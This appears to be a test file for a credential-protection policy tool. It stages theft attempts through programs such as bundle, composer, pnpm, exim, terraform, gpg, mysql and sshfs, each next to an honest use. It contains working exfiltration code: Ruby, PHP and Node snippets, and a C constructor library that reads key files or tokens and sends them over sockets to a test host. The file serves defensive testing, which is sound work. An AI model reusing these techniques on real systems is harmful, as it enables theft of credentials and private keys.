# SPDX-License-Identifier: GPL-2.0-or-later
"""Thefts through programs that the default policy allows to read a file, which run what their user has written: in a
project, in a configuration, as a command; each beside an honest use."""

import contextlib
import os
import shlex
import tempfile

import mysql
import scene as stage
from registry import PORT
from scene import URL
from sshd import another_sshd

from net import HOST_V4
from tap import Skip, require

OTHER_PORT = 9999  # no rule names it
COMPOSER_TIMEOUT = 60

SEND_IN_RUBY = """require 'socket'
TCPSocket.new('{host}', 443).write(File.read('{path}'))
"""
EXIM_CONFIG = """
primary_hostname = localhost
keep_environment =
begin acl
begin routers
begin transports
"""
# A package manager for Node.js, as far as it runs the code of a project.
PNPM = """#!/usr/bin/env node
require(process.cwd() + "/.pnpmfile.cjs");
const token = require("fs").readFileSync(process.env.HOME + "/.npmrc");
const to = require("net").connect(Number(process.argv[2]), "%s", () => to.end(token));
to.on("error", () => {});
"""
# A library for PKCS #11 that is code of its own.
LIBRARY = """
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
int C_GetFunctionList(void) {
        return 1;
}
__attribute__((constructor)) static void steal(void) {
        struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(443) };
        char loot[4096];
        int s = socket(AF_INET, SOCK_STREAM, 0);
        ssize_t n = read(open(getenv("KEY"), O_RDONLY), loot, sizeof(loot));

        inet_aton(getenv("SINK"), &to.sin_addr);
        if (n > 0 && connect(s, (struct sockaddr *)&to, sizeof(to)) == 0 && write(s, loot, n) == n)
                _exit(0);
        _exit(1);
}
"""


def gemfile(s, stolen, _):
    """bundle runs the Gemfile of its directory; gem uses its token."""
    path = s.world.write("ana", ".gem/credentials", f"---\n:rubygems_api_key: decoy\nhttp://{HOST_V4}:{PORT}: decoy\n")
    s.world.write("ana", "ruby/Gemfile", SEND_IN_RUBY.format(host=HOST_V4, path=path), 0o644)
    stolen(s, ["env", "-C", "ruby", "bundle", "list"], path, "ruby", "ana", needs="bundle")
    s.world.write("ana", "ruby/Gemfile", f"system('curl -sS {URL}')\n", 0o644)
    s.silent(["env", "-C", "ruby", "bundle", "list"], "ana", status=None, needs="bundle")
    s.world.write("ana", "ruby/own.gemspec", "Gem::Specification.new { |s| s.name = 'own'; s.version = '1'; "
                  "s.summary = 'own'; s.authors = ['ana']; s.files = [] }\n", 0o644)
    s.silent(["sh", "-c", f"cd ruby && gem build -q own.gemspec && gem push --host http://{HOST_V4}:{PORT} own-1.gem"],
             "ana", status=None, needs="gem")


def composer(s, stolen, _):
    """composer runs commands of the project, and functions, which send by its ports only."""
    path = s.world.write("ana", ".config/composer/auth.json", '{"http-basic": {}}\n')
    thief = s.world.write("ana", "thief.py", stage.THIEF)
    s.world.write("ana", "php/composer.json", """{"scripts": {
        "child": "/usr/bin/python3 %s %s %s", "own": "Thief::send", "honest": "curl -sS %s"},
        "autoload": {"classmap": ["Thief.php"]}}""" % (thief, path, HOST_V4, URL), 0o644)
    s.world.write("ana", "php/Thief.php", f"""<?php
        class Thief {{ static function send() {{
            $loot = file_get_contents("{path}");
            fwrite(fsockopen("{HOST_V4}", {OTHER_PORT}, $e, $m, 2) ?: STDERR, $loot); }} }}\n""", 0o644)
    run = ["composer", "--no-interaction", "--working-dir=php", "--no-plugins", "run-script"]
    stolen(s, [*run, "child"], path, "python", "ana", timeout=COMPOSER_TIMEOUT)
    stolen(s, [*run, "own"], path, "php", "ana", port=OTHER_PORT, timeout=COMPOSER_TIMEOUT)
    s.silent([*run, "honest"], "ana", timeout=COMPOSER_TIMEOUT)


def pnpm(s, stolen, _):
    """The .pnpmfile.cjs of a project is code in pnpm: of its user, whose rules know the ports of registries."""
    path = s.world.write("ana", ".npmrc", "//registry.example/:_authToken=decoy\n")
    script = "/usr/local/lib/node_modules/pnpm/bin/pnpm.cjs"
    s.world.do("sh", "-ec", 'mkdir -p "${1%/*}" /usr/local/bin; cat >"$1"; chmod 755 "$1"; ln -sf "$1" '
               "/usr/local/bin/pnpm", "sh", script, stdin=PNPM % HOST_V4)
    s.world.write("ana", "node/.pnpmfile.cjs", "\n", 0o644)
    command = ["env", "-C", "node", "pnpm"]
    s.silent([*command, "443"], "ana", needs="node")
    stolen(s, [*command, str(OTHER_PORT)], path, "node", "ana", port=OTHER_PORT, needs="node")
    # Of another user, as in a directory that was unpacked by root.
    s.world.do("chown", "daemon", f"{s.world.home_of('ana')}/node/.pnpmfile.cjs")
    stolen(s, [*command, "443"], path, "node", "ana", needs="node")


def exim(s, stolen, sender):
    """exim with a configuration of its user's prints the mailbox."""
    path = "/var/mail/ana"
    s.world.do("sh", "-ec", f"mount -t tmpfs -o mode=1777 tmpfs /var/mail; echo decoy-mail >{path}; chown ana {path}")
    conf = s.world.write("ana", "exim.conf", EXIM_CONFIG, 0o644)
    show = f"exim4 -C {conf} -be '${{readfile{{{path}}}}}'"
    stolen(s, ["sh", "-c", f"{show} | {sender}"], path, "python", "ana", needs="exim4")
    stolen(s, ["exim4", "-C", conf, "-be",
               f"${{readsocket{{inet:{HOST_V4}:443}}{{${{readfile{{{path}}}}}}}}}"], path, "exim", "ana")
    s.silent(["sh", "-c", f"{show} >copy; curl -sS {URL}"], "ana", needs="exim4")


def terraform(s, stolen, sender):
    """terraform prints any file; its own token, and that of another tool."""
    secret = {".terraform.d/credentials.tfrc.json": '{"credentials": {}}\n',
              ".pulumi/credentials.json": "{}\n", ".aws/credentials": "[default]\n"}
    for name, text in secret.items():
        path = s.world.write("ana", name, text)
        stolen(s, ["sh", "-c", f"""echo 'file("{path}")' | terraform console | {sender}"""], path, "python", "ana",
               needs="terraform")
    s.silent(["sh", "-c", f"echo '1+1' | terraform console >out; terraform version; curl -sS {URL}"], "ana",
             needs="terraform")


def gpg_key(s):
    """The account has one, made when it is first needed."""
    s.world.do("sh", "-ec", "gpg -K ana@example.org >/dev/null 2>&1 || gpg -q --batch --passphrase '' "
               "--quick-generate-key ana@example.org default default never", user="ana")


def gpg_connect_agent(s, stolen, sender):
    """It prints what the agent answers: with these commands, a key."""
    gpg_key(s)
    try:
        agent = s.world.do("gpgconf", "--list-dirs", "agent-socket", user="ana").strip()
        stolen(s, ["sh", "-c", "grip=$(gpg -K --with-keygrip --with-colons | sed -n '/^grp:/{s/[^0-9A-F]//g;p;q}'); "
                   f"printf 'KEYWRAP_KEY --export\nEXPORT_KEY %s\n' $grip | gpg-connect-agent | {sender}"], agent,
               "python", "ana", needs="gpg-connect-agent")
        s.silent(["sh", "-c", f"gpg-connect-agent updatestartuptty /bye >/dev/null; curl -sS {URL}"], "ana",
                 needs="gpg-connect-agent")
    finally:
        s.world.do("gpgconf", "--kill", "all", user="ana")


def gpg_exports(s, stolen, sender):
    """gpg prints a key, or writes it to a file, with an option that is written out or not; its other work."""
    gpg_key(s)
    backup = "/usr/local/bin/backup"
    s.world.stand_in(backup)
    try:
        agent = s.world.do("gpgconf", "--list-dirs", "agent-socket", user="ana").strip()
        options = s.world.write("ana", "options", "export-secret-keys\n", 0o644)
        for export in ("gpg --export-secret-keys", "gpg -a --export-secret-sub", f"gpg --options {options} -o-",
                       "gpg --batch --no-tty --export-secret-keys " + "x " * 300):
            stolen(s, ["sh", "-c", f"{export} | {sender}"], agent, "python", "ana", needs="gpg")
        stolen(s, ["sh", "-c", f"gpg -o loot --export-secret-keys; {sender} loot"], agent, "python", "ana")
        key = s.world.do("sh", "-ec", "echo ~/.gnupg/private-keys-v1.d/*.key", user="ana").split()[0]
        stolen(s, ["sh", "-c", f"gpg --enarmor <{key} | {sender}"], key, "python", "ana")
        stolen(s, ["sh", "-c", f"gpg -o - --store {key} | {sender}"], key, "python", "ana")
        s.silent(["sh", "-ec", "mkdir repository; cd repository; git init -q; git -c user.name=ana -c "
                  "user.email=ana@example.org -c user.signingkey=ana@example.org commit -q -S --allow-empty -m signed; "
                  f"git verify-commit HEAD; git push -q http://{HOST_V4}:{PORT}/x HEAD || curl -sS {URL}"], "ana",
                 needs="git")
        s.silent(["sh", "-ec", "echo text | gpg -q -e -r ana@example.org >mail.gpg; gpg -q -d mail.gpg; "
                  f"gpg -q --export -a | {sender}; gpg -K; curl -sS {URL}"], "ana")
        s.silent(["sh", "-ec", f"gpg -o own.gpg --export-secret-keys; exec {backup} blocking own.gpg {HOST_V4} 443"],
                 "ana", needs="/usr/bin/env")
    finally:
        s.world.do("gpgconf", "--kill", "all", user="ana")


# Rules of the site.
SITE = """
[Allow site-backup]
Class=gpg-private-keys agent-sockets
Exe=/usr/local/bin/backup
Destination=any:443
[Allow site-named]
Path=~/.pgpass
Exe=/usr/local/bin/named
ExcludeArgument=--print*
"""


@contextlib.contextmanager
def rules():
    """A directory with them."""
    with tempfile.TemporaryDirectory(prefix="barbwire-site-") as directory:
        with open(f"{directory}/90-site.conf", "w", encoding="utf-8") as conf:
            conf.write(SITE)
        yield directory


def named(s, stolen, _):
    """A rule for one file of a class, by the name that it has; and not with an option."""
    s.world.do("install", "-D", "-m", "755", "/usr/bin/curl", "/usr/local/bin/named")
    path, other = (s.world.write("ana", name, "decoy\n") for name in (".pgpass", ".pg_service.conf"))
    linked = f"{s.world.home_of('ana')}/linked"
    s.world.do("sh", "-c", f"ln {path} {linked}; ln -s {path} led", user="ana")

    def send(name, *options):
        return ["/usr/local/bin/named", *options, "-sS", "--data-binary", f"@{name}", URL]
    for name, *options in (path,), ("led",), (path, "-H", "x: --print"):
        s.silent(send(name, *options), "ana", needs="curl")
    many = [option for i in range(70) for option in ("-H", f"x{i}: {'x' * 200}")]
    for name, *options in (other,), (linked,), (path, "-H", "--print: x"), (path, *many, "-H", "--print: x"):
        stolen(s, send(name, *options), name, "named", "ana", port=None, needs="curl")


SFTP_CONFIG = """
Port 2224
HostKey {home}/sftpkey
AuthorizedKeysFile {home}/.ssh/authorized_keys
UsePAM no
StrictModes no
PidFile none
Subsystem sftp internal-sftp
"""


def own_sftp(s, stolen, _):
    """An sshd of her own hands out a key by internal-sftp, as the system's does to the person who is logged in."""
    home = s.world.home_of("ana")
    options = [*s.server.options("ana"), "-o", "BatchMode=yes"]
    key = f"{home}/.ssh/id_sftp"
    s.world.do("sh", "-ec", f"ssh-keygen -q -t ed25519 -N '' -f sftpkey; ssh-keygen -q -t ed25519 -N '' -f {key}",
               user="ana")
    conf = s.world.write("ana", "sftp_config", SFTP_CONFIG.format(home=home))
    get = ["sftp", *options, "-q"]
    s.silent([*get, f"ana@{HOST_V4}:{key}", "/dev/null"], "ana")
    with another_sshd(s, "ana", conf):
        stolen(s, [*get, "-P", "2224", f"ana@{HOST_V4}:{key}", "/dev/null"], key, "sshd", "ana", port=None)


def mysql_load(s, stolen, _):
    """mysql loads a file into a table: the password of another client, or an honest one."""
    path = s.world.write("ana", ".pgpass", "*:*:*:ana:decoy\n")
    s.world.write("ana", ".my.cnf", "[client]\npassword=decoy\n")
    honest = s.world.write("ana", "table", "1\n")
    with mysql.serving(s.net):
        command = ["mariadb", "-h", HOST_V4, "--local-infile=1", "-e"]
        stolen(s, [*command, f"LOAD DATA LOCAL INFILE '{path}' INTO TABLE t"], path, "mariadb", "ana", port=mysql.PORT)
        s.silent([*command, f"LOAD DATA LOCAL INFILE '{honest}' INTO TABLE t"], "ana")
        require(b"1\n" in mysql.MySQL.loaded, f"loaded: {mysql.MySQL.loaded}")


def fuse(s, stolen, _):
    """A file system that a user serves says that a library is root's."""
    home = s.world.home_of("ana")
    if not os.path.exists("/dev/fuse"):
        raise Skip("no /dev/fuse", environment=True)
    key = f"{home}/.ssh/id_fuse"
    s.world.do("sh", "-ec", f"mkdir -p library served; gcc -shared -fPIC -o library/p.so -x c -; printf "
               f"'#!/bin/sh\\nexec /usr/lib/openssh/sftp-server\\n' >transport; chmod 755 transport library/p.so; "
               f"ssh-keygen -q -t ed25519 -N '' -f {key}", user="ana", stdin=LIBRARY)
    # Who may use it is up to the machine.
    s.world.do("sh", "-ec", "mknod -m 666 /run/fuse c 10 229; mount --bind /run/fuse /dev/fuse")
    s.silent(["sshfs", f"x:{home}/library", f"{home}/served", "-o",
              f"ssh_command={home}/transport,uid=0,gid=0,umask=022"], "ana")
    try:
        require(s.world.do("stat", "-c", "%u", f"{home}/served/p.so", user="ana") == "0\n", "the owner that FUSE shows")
        ssh = ["ssh", "-F", "none", "-o", "BatchMode=yes", "-o", f"PKCS11Provider={home}/served/p.so", "-o",
               f"IdentityFile={key}", f"ana@{HOST_V4}"]
        stolen(s, ssh, key, "ssh", "ana", KEY=key, SINK=HOST_V4)
    finally:
        s.world.do("fusermount3", "-u", f"{home}/served", user="ana")
    options = s.server.options("ana")
    s.silent(["ssh", *options, "-o", "BatchMode=yes", f"ana@{HOST_V4}", "true"], "ana")


def cases(t, s, server, stolen, sender):
    s.server = server
    sender = shlex.join(sender)
    for what, play in (("a Gemfile", gemfile), ("the commands of a project of composer", composer),
                       ("a .pnpmfile.cjs", pnpm), ("exim with a configuration of her own", exim),
                       ("terraform console", terraform), ("a key from gpg's agent", gpg_connect_agent),
                       ("a rule for one file", named), ("gpg exports a key", gpg_exports),
                       ("an sshd of her own, by internal-sftp", own_sftp),
                       ("mysql loads the password of another client", mysql_load),
                       ("a library by FUSE that is root's by its own word", fuse)):
        t.case(f"ana: {what}", play, s, stolen, sender)
